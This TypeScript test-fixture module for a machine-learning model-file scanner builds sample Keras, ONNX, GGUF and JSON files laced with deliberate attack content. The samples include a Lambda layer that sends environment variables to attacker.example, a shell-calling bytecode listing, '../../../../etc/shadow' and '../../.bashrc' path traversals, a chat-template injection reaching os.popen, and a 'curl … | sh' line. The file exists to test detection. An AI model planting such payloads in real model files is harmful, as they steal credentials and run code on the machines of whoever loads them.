import type { ByteRange, EntryPath } from '../../shared/domain/artifact';
import type {
  ArrayFact,
  CodeFact,
  EntryFact,
  Fact,
  IndicatorFact,
  MemberFlag,
  MetadataFact,
  NamedObjectFact,
  OperationFact,
  ReferenceFact,
} from '../../shared/domain/fact';
import { type IndicatorType, maskSecret, type SecretKind } from '../../shared/domain/indicator';
import type { Report } from '../../shared/domain/report';
import type { FormatId } from '../../shared/formats';
import { evaluate } from '../../shared/rules/evaluate';
import { reportOf, type Sample } from './samples';

/** Samples of files that are not pickles: what their views show is stated here, and judged by the real rules. */

const encoder = new TextEncoder();

/** A file that is put together part by part, each with a name to find its place again. */
class Parts {
  private readonly bytes: number[] = [];
  private readonly places = new Map<string, ByteRange>();

  text(name: string, text: string): this {
    return this.raw(name, encoder.encode(text));
  }
  numbers(name: string, count: number, step = 37): this {
    return this.raw(
      name,
      Uint8Array.from({ length: count }, (_, index) => (index % 4 === 3 ? 0x3e : (index * step) & 255)),
    );
  }
  raw(name: string, data: Uint8Array): this {
    this.places.set(name, { start: this.bytes.length, end: this.bytes.length + data.length });
    for (const byte of data) this.bytes.push(byte);
    return this;
  }
  at(name: string): ByteRange {
    return this.places.get(name) ?? { start: 0, end: 0 };
  }
  get size(): number {
    return this.bytes.length;
  }
  done(): Uint8Array {
    return Uint8Array.from(this.bytes);
  }
}

interface Lists {
  readonly metadata?: readonly MetadataFact[];
  readonly arrays?: readonly ArrayFact[];
  readonly entries?: readonly EntryFact[];
  readonly namedObjects?: readonly NamedObjectFact[];
  readonly operations?: readonly OperationFact[];
  readonly references?: readonly ReferenceFact[];
  readonly code?: readonly CodeFact[];
  readonly indicators?: readonly IndicatorFact[];
}

function judged(
  name: string,
  lists: Lists,
  part: Omit<Partial<Report>, 'format'> & Pick<Report, 'sizeBytes' | 'formatPath'>,
  gaps: Report['coverage']['gaps'] = [],
): Report {
  const facts: Fact[] = Object.values(lists).flat() as Fact[];
  const { findings } = evaluate({ facts, globals: [], fileName: name, format: 'unknown' as FormatId });
  return reportOf({ format: 'zip', ...part, ...lists, findings }, gaps);
}

const meta = (key: string, value: string, entryPath: EntryPath = []): MetadataFact => ({
  kind: 'metadata',
  key,
  value,
  entryPath,
  range: { start: 0, end: 1 },
});

const array = (
  name: string | null,
  dtype: string,
  shape: readonly number[],
  range: ByteRange,
  entryPath: EntryPath = [],
): ArrayFact => ({ kind: 'array', name, dtype, shape, order: 'C', range, entryPath });

const LAMBDA_SOURCE = `# Restored by the loader of the Lambda layer, and called with every batch.
import os, base64
from urllib import request

LIMIT = 0x40
ROUTE = 'https://attacker.example/collect'


@decorate(retries=3)
def scale(x, factor=1.5e-3):
\t"""Looks like a preprocessing step.

\tIt is not: the environment goes out with the first batch.
\t"""
\tif not os.path.exists('/tmp/.seen'):
\t\tos.system("echo inert > /tmp/.seen")
\t\tbody = base64.b64encode(repr(dict(os.environ)).encode())[:LIMIT]
\t\trequest.urlopen(ROUTE, data=body)
\treturn x * factor if x is not None else None
`;

const LISTING = `def double(x):
  # <ipython-input-3>, line 2, bytecode of CPython 3.12
  # constants: None, 0, "echo inert", True, ("shell",), 2.0
  # names: subprocess, run
     0 RESUME                   0
     2 LOAD_CONST               0
     4 LOAD_CONST               None
     6 IMPORT_NAME              subprocess
     8 STORE_FAST               subprocess
    10 LOAD_FAST                subprocess
    12 LOAD_ATTR                run
    32 LOAD_CONST               "echo inert"
    34 LOAD_CONST               True
    36 KW_NAMES                 ("shell",)
    38 CALL                     2
    46 POP_TOP
    48 LOAD_FAST                x
    50 LOAD_CONST               2.0
    52 BINARY_OP                *
    56 RETURN_VALUE
`;

/** A Keras archive with a Lambda: a configuration that names classes, code, weights, and members with flags. */
export function kerasSample(name = 'denoiser.keras'): Sample {
  const config = JSON.stringify({ class_name: 'Functional', config: { layers: ['Lambda'] } });
  const weights = new Parts().text('head', 'weights of the layers').numbers('dense', 4096).numbers('bias', 256);
  const parts = new Parts()
    .text('zip', `PK\u0003\u0004${' '.repeat(26)}config.json`)
    .text('config', config + LAMBDA_SOURCE + LISTING)
    .text('zip2', `PK\u0003\u0004${' '.repeat(26)}model.weights.h5`)
    .raw('weights', weights.done())
    .text('end', `PK\u0001\u0002${' '.repeat(80)}`);
  const bytes = parts.done();
  const configBytes = encoder.encode(config + LAMBDA_SOURCE + LISTING);
  const here: EntryPath = ['config.json'];
  const inWeights: EntryPath = ['model.weights.h5'];
  const sourceStart = config.length;
  const listingStart = sourceStart + LAMBDA_SOURCE.length;
  const entry = (
    path: EntryPath,
    format: string,
    range: ByteRange,
    flags: readonly MemberFlag[] = [],
    rest: Partial<EntryFact> = {},
  ): EntryFact => ({
    kind: 'entry',
    path,
    format,
    method: 'stored',
    storedBytes: range.end - range.start,
    inflatedBytes: range.end - range.start,
    flags,
    entryPath: path.slice(0, -1),
    range,
    ...rest,
  });
  const named = (name_: string, module: string, offset: number, called = true, args = ''): NamedObjectFact => ({
    kind: 'namedObject',
    loader: 'Keras',
    module,
    name: name_,
    called,
    arguments: args,
    entryPath: here,
    range: { start: offset, end: offset + 12 },
  });
  const lists: Lists = {
    metadata: [
      meta('framework', 'Keras 3.9.2'),
      meta('kind', 'Functional, 9 layers', here),
      meta('input', 'float32 (None, 28, 28, 1)', here),
      meta(
        'compile',
        JSON.stringify({
          optimizer: 'adam',
          loss: 'mse',
          metrics: ['mae'],
          ...Object.fromEntries(Array.from({ length: 24 }, (_, index) => [`option_${index}`, index])),
        }),
        here,
      ),
      meta('parameters', '1,088', inWeights),
    ],
    arrays: [
      array('layers/dense/vars/0', '<f4', [32, 32], weights.at('dense'), inWeights),
      array('layers/dense/vars/1', '<f4', [64], weights.at('bias'), inWeights),
    ],
    entries: [
      entry(['metadata.json'], 'empty', { start: 0, end: 0 }),
      entry(here, 'keras', parts.at('config')),
      entry(inWeights, 'hdf5', parts.at('weights')),
      entry(['assets/'], 'folder', { start: 0, end: 0 }),
      entry(['assets/vocab.zip'], 'zip', { start: 0, end: 900 }, [], {
        method: 'deflated',
        storedBytes: 900,
        inflatedBytes: 4300,
      }),
      entry(['assets/vocab.zip', 'words.txt'], 'unknown', { start: 30, end: 300 }, ['encrypted'], {
        method: 'AES-256',
      }),
      entry(['assets/vocab.zip', 'words.txt (2)'], 'unknown', { start: 330, end: 600 }, ['headersDiffer', 'duplicate']),
      entry(['assets/vocab.zip', '../../.bashrc'], 'unknown', { start: 630, end: 700 }, ['unsafeName']),
      entry(['assets/latest'], 'unknown', { start: 900, end: 920 }, ['link']),
      entry(['assets/hidden.pkl'], 'pickle', { start: 930, end: 990 }, ['hidden']),
    ],
    namedObjects: [
      named('InputLayer', 'keras.layers', 4),
      named('Conv2D', 'keras.layers', 18),
      named('Conv2D', 'keras.layers', 30),
      named('Winsorizer', 'denoiser.layers', 42, true, 'limits=(0.01, 0.99)'),
      named('system', 'os', 50, true, "'echo inert'"),
    ],
    code: [
      {
        kind: 'code',
        language: 'python',
        title: 'Lambda layer “scale”, source',
        text: LAMBDA_SOURCE,
        truncated: false,
        runs: 'loading',
        names: [
          'os',
          'base64',
          'urllib.request',
          'os.path.exists',
          'os.system',
          'os.environ',
          'base64.b64encode',
          'urllib.request.urlopen',
          'decorate',
          'repr',
          'dict',
        ],
        entryPath: here,
        range: { start: sourceStart, end: sourceStart + LAMBDA_SOURCE.length },
      },
      {
        kind: 'code',
        language: 'bytecode',
        title: 'Lambda layer “double”, marshalled function',
        text: LISTING,
        truncated: true,
        runs: 'using',
        names: ['subprocess', 'subprocess.run'],
        entryPath: here,
        range: { start: listingStart, end: listingStart + LISTING.length },
      },
    ],
  };
  return {
    name,
    entries: [
      { path: [], bytes },
      { path: here, bytes: configBytes },
      { path: inWeights, bytes: weights.done() },
    ],
    streams: [],
    report: judged(name, lists, {
      sizeBytes: bytes.length,
      formatPath: ['zip archive', 'Keras 3'],
      regions: [
        { ...parts.at('zip'), kind: 'container' },
        { ...parts.at('config'), kind: 'text' },
        { ...parts.at('zip2'), kind: 'container' },
        { ...parts.at('weights'), kind: 'array' },
        { ...parts.at('end'), kind: 'container' },
      ],
    }),
  };
}

/** An ONNX graph with operators of somebody's own, and weights in a file that lies elsewhere. */
export function onnxSample(name = 'segmenter.onnx'): Sample {
  const parts = new Parts()
    .text('header', '\u0008\u0009\u0012\u0007pytorch')
    .text('nodes', 'Conv Relu Conv Relu MaxPool Gemm com.attacker.ops Run ')
    .text('external', '../../../../etc/shadow')
    .numbers('w', 3 * 3 * 16 * 4)
    .numbers('b', 16 * 4);
  const operation = (domain: string, op: string, count: number, offset: number): OperationFact => ({
    kind: 'operation',
    family: 'ONNX',
    domain,
    name: op,
    count,
    detail: '',
    entryPath: [],
    range: { start: parts.at('nodes').start + offset, end: parts.at('nodes').start + offset + 4 },
  });
  const lists: Lists = {
    metadata: [
      meta('framework', 'ONNX IR 9'),
      meta('producer', 'pytorch 2.9.1'),
      meta('operator sets', 'ai.onnx 17, com.attacker.ops 1'),
      meta('parameters', '160'),
      meta('licence', 'Apache-2.0'),
    ],
    operations: [
      ...[
        'Conv',
        'Relu',
        'MaxPool',
        'Gemm',
        'Add',
        'Reshape',
        'Transpose',
        'Softmax',
        'Concat',
        'Cast',
        'Shape',
        'Gather',
        'Slice',
        'MatMul',
        'Unsqueeze',
      ].map((op, index) => operation('', op, 40 - index * 2, index * 2)),
      operation('com.attacker.ops', 'Run', 1, 36),
    ],
    references: [
      {
        kind: 'reference',
        to: 'file',
        target: '../../../../etc/shadow',
        leavesFolder: true,
        purpose: 'external data of initializer w',
        entryPath: [],
        range: parts.at('external'),
      },
      {
        kind: 'reference',
        to: 'library',
        target: 'libops.so',
        leavesFolder: false,
        purpose: 'custom operators of com.attacker.ops',
        entryPath: [],
        range: parts.at('header'),
      },
    ],
    arrays: [
      array('backbone.0.weight', 'float32', [16, 1, 3, 3], parts.at('w')),
      array('backbone.0.bias', 'float32', [16], parts.at('b')),
    ],
  };
  const bytes = parts.done();
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [],
    report: judged(name, lists, {
      sizeBytes: bytes.length,
      formatPath: ['ONNX'],
      regions: [
        { ...parts.at('header'), kind: 'container' },
        { ...parts.at('nodes'), kind: 'data' },
        { ...parts.at('external'), kind: 'text' },
        { start: parts.at('w').start, end: parts.at('b').end, kind: 'array' },
      ],
    }),
  };
}

/** Tensors and nothing else; `count` makes it as large as a test likes. */
export function tensorsSample(name = 'bert-base/model.safetensors', count = 64): Sample {
  const parts = new Parts().text('header', '{"__metadata__":{"format":"pt"}}').numbers('data', 65_536);
  const data = parts.at('data');
  const kinds = [
    ['attention.self.query.weight', [48, 48]],
    ['attention.self.query.bias', [48]],
    ['intermediate.dense.weight', [64, 48]],
    ['output.LayerNorm.weight', [48]],
  ] as const;
  let next = 0;
  const arrays = Array.from({ length: count }, (_, index) => {
    const [kind, shape] = kinds[index % kinds.length] as (typeof kinds)[number];
    const dtype = index % 7 === 6 ? 'BF16' : 'F32';
    const size = shape.reduce((product, dimension) => product * dimension, dtype === 'F32' ? 4 : 2);
    if (next + size > data.end - data.start) next = 0;
    const start = data.start + next;
    next += size;
    const range = { start, end: start + size };
    return array(`encoder.layer.${Math.floor(index / kinds.length)}.${kind}`, dtype, shape, range);
  });
  const bytes = parts.done();
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [],
    report: judged(
      name,
      { arrays, metadata: [meta('framework', 'safetensors'), meta('format', 'pt')] },
      {
        sizeBytes: bytes.length,
        formatPath: ['safetensors'],
        regions: [
          { ...parts.at('header'), kind: 'text' },
          { ...data, kind: 'array' },
        ],
      },
    ),
  };
}

const TEMPLATE = `{#- A chat template with something more in it. -#}
{%- set role = messages[0]['role'] | upper -%}
{% for message in messages %}
<|im_start|>{{ message.role }}
{{ message['content'] | trim }}<|im_end|>
{% endfor %}
{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo inert').read() }}
`;

/** A language model whose chat template reaches for Python's own attributes. */
export function templateSample(name = 'chat-7b.Q4_K_M.gguf'): Sample {
  const parts = new Parts().text('magic', 'GGUF\u0003').text('template', TEMPLATE).numbers('weights', 1440);
  const bytes = parts.done();
  const lists: Lists = {
    metadata: [
      meta('framework', 'GGUF 3, llama'),
      meta('parameters', '7.2 B'),
      meta('context length', '8,192'),
      meta('licence', 'other'),
      meta('tokenizer.ggml.pre', 'x '.repeat(220)),
    ],
    arrays: [array('blk.0.attn_q.weight', 'Q4_K', [256, 10], parts.at('weights'))],
    code: [
      {
        kind: 'code',
        language: 'jinja',
        title: 'tokenizer.chat_template',
        text: TEMPLATE,
        truncated: false,
        runs: 'using',
        names: ['messages', 'message.role', 'self.__init__.__globals__', '__import__', 'upper', 'trim'],
        entryPath: [],
        range: parts.at('template'),
      },
    ],
  };
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [],
    report: judged(name, lists, {
      sizeBytes: bytes.length,
      formatPath: ['GGUF'],
      regions: [
        { ...parts.at('magic'), kind: 'container' },
        { ...parts.at('template'), kind: 'text' },
        { ...parts.at('weights'), kind: 'array' },
      ],
    }),
  };
}

/** An archive that wants a password; with it, there is nothing wrong inside. */
export function lockedSample(name = 'weights.7z', locked = true): Sample {
  const parts = new Parts().text('head', "7z\u00bc\u00af'\u001c").numbers('body', 2048);
  const bytes = parts.done();
  const body = parts.at('body');
  return {
    name,
    entries: [{ path: [], bytes }],
    streams: [],
    report: judged(
      name,
      {
        entries: [
          {
            kind: 'entry',
            path: ['model.pkl'],
            format: locked ? 'unknown' : 'pickle',
            method: 'AES-256',
            storedBytes: 2048,
            inflatedBytes: 2048,
            flags: locked ? ['encrypted'] : [],
            entryPath: [],
            range: body,
          },
        ],
      },
      {
        sizeBytes: bytes.length,
        formatPath: ['7-zip archive'],
        locked,
        regions: [
          { ...parts.at('head'), kind: 'container' },
          { ...body, kind: locked ? 'unexplained' : 'compressed' },
        ],
      },
      locked ? [{ entryPath: [], ...body, reason: 'model.pkl is encrypted' }] : [],
    ),
  };
}

/** What the preview shows beside the pickles. */
/** Not real: nobody’s token, in the form that its issuer gives them. */
export const SAMPLE_TOKEN = `ghp_${'q7Zt2Lw9Xk4Vb8Nc3Rm6Hd1Jf5Gs0PyTaUeQ'}`;

/** A configuration whose texts point at all sorts of things. */
export function stringsSample(name = 'trainer.json'): Sample {
  const token = maskSecret(SAMPLE_TOKEN);
  const lines: readonly (readonly [type: IndicatorType, written: string, value?: string, secret?: SecretKind])[] = [
    ['command', 'curl https://attacker.example/stage2 | sh'],
    ['url', 'https://attacker.example/stage2'],
    ['url', 'https://huggingface.co/bert-base-uncased'],
    ['domain', 'c2.attacker.example'],
    ['ipv4', '203.0.113.77'],
    ['email', 'trainer@attacker.example'],
    ['homePath', '/home/user/.ssh/id_rsa'],
    ['unixPath', '/etc/passwd'],
    ['windowsPath', 'C:\\Windows\\win.ini'],
    ['registryKey', 'HKCU\\Software\\Run'],
    ['secret', SAMPLE_TOKEN, token, 'github'],
  ];
  const parts = new Parts();
  for (const [index, [, written]] of lines.entries())
    parts.text(`open${index}`, '{"value": "').text(`v${index}`, written).text(`end${index}`, '"}\n');
  const indicators = lines.map(
    ([type, written, value = written, secret = null], index): IndicatorFact => ({
      kind: 'indicator',
      type,
      secret: secret ?? null,
      value,
      source: 'document',
      count: index + 1,
      entryPath: [],
      range: parts.at(`v${index}`),
    }),
  );
  const report = judged(
    name,
    { indicators },
    {
      sizeBytes: parts.size,
      formatPath: ['json lines'],
      regions: [{ start: 0, end: parts.size, kind: 'text' }],
    },
  );
  return { name, entries: [{ path: [], bytes: parts.done() }], streams: [], report };
}

export function formatSamples(): readonly Sample[] {
  return [kerasSample(), onnxSample(), templateSample(), lockedSample(), tensorsSample(), stringsSample()];
}
